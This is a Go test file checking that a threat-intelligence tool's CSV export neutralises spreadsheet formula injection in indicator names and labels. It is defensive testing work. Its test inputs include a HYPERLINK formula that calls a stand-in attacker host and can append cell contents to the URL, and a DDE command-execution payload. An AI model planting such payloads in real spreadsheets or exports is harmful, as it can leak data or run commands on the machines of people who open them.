package export_test

import (
	"encoding/csv"
	"encoding/json"
	"strconv"
	"strings"
	"testing"

	"mosaic"
)

// TestCSVInjection: names and labels that a spreadsheet would read as a
// formula leave the CSV export as text (OWASP's CSV injection advice).
func TestCSVInjection(t *testing.T) {
	for i, name := range []string{`=HYPERLINK("http://evil.example","x")`, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"} {
		label := `,"labels":["=cmd|' /C calc'!A0","plain"]`
		o := stored(indicator(i+1, "[ipv4-addr:value = '198.51.100.1']", label), mosaic.TLPAmber, "pa")
		q, _ := json.Marshal(name)
		o.Object = []byte(strings.Replace(string(o.Object), `"name":"i`+strconv.Itoa(i+1)+`"`, `"name":`+string(q), 1))
		out, _ := write(t, "csv", o)
		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%q: %v %q", name, err, out)
		}
		if got := rows[1][2]; got != "'"+name {
			t.Errorf("name %q written as %q", name, got)
		}
		if got := rows[1][13]; got != "'=cmd|' /C calc'!A0;plain" {
			t.Errorf("labels written as %q", got)
		}
		// Values that start otherwise are written as they are.
		if rows[1][5] != "198.51.100.1" || rows[1][6] != "TLP:AMBER" {
			t.Errorf("row %q", rows[1])
		}
	}
}

// TestCSVInjectionParts: a spreadsheet whose list separator is ";" (Excel
// in Dutch, German or French) splits a cell at each ";", and labels are
// joined with ";" into one cell: every part of a cell, after a ";" or ","
// as well as at its start, that would start a formula gets the
// apostrophe, and so does a cell that starts one after white space or a
// double quote, or with a fullwidth trigger. A trigger elsewhere is text.
func TestCSVInjectionParts(t *testing.T) {
	for i, tc := range []struct {
		name   string
		labels []string
		// wantName and wantLabels are the cells as a CSV reader reads them.
		wantName, wantLabels string
	}{
		{`Loader;=HYPERLINK("http://evil.example/?"&A1,"open")`, []string{"trojan", "=cmd|' /C calc'!A0", "@SUM(1+1)"},
			`Loader;'=HYPERLINK("http://evil.example/?"&A1,"open")`, "trojan;'=cmd|' /C calc'!A0;'@SUM(1+1)"},
		{" =1+1", []string{`"=1+1`}, "' =1+1", `'"=1+1`},
		{"\n=1+1", []string{"＝1+1", "＋1", "－1", "＠A1"}, "'\n=1+1", "'＝1+1;'＋1;'－1;'＠A1"},
		{"a, -1,+2", []string{"x;=1", "y,\t2", "z; \"@A1"}, "a,' -1,'+2", "x;'=1;y,'\t2;z;' \"@A1"},
		// A label that is escaped already is not escaped again.
		{"a;;=b", []string{"'=x", "plain"}, "a;;'=b", "'=x;plain"},
		// Triggers that start no part are text: a hyphenated word, a
		// sum inside a name, a date.
		{"foo-bar a=b 1+1 x@y", []string{"2026-10-01", "e-mail", "a;b"}, "foo-bar a=b 1+1 x@y", "2026-10-01;e-mail;a;b"},
	} {
		o := stored(indicator(i+1, "[ipv4-addr:value = '198.51.100.1']", ""), mosaic.TLPAmber, "pa")
		q, _ := json.Marshal(tc.name)
		l, _ := json.Marshal(tc.labels)
		o.Object = []byte(strings.Replace(string(o.Object), `"name":"i`+strconv.Itoa(i+1)+`"`, `"name":`+string(q)+`,"labels":`+string(l), 1))
		out, _ := write(t, "csv", o)
		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%q: %v %q", tc.name, err, out)
		}
		if got := rows[1][2]; got != tc.wantName {
			t.Errorf("name %q written as %q, want %q", tc.name, got, tc.wantName)
		}
		if got := rows[1][13]; got != tc.wantLabels {
			t.Errorf("labels %q written as %q, want %q", tc.labels, got, tc.wantLabels)
		}
	}
}
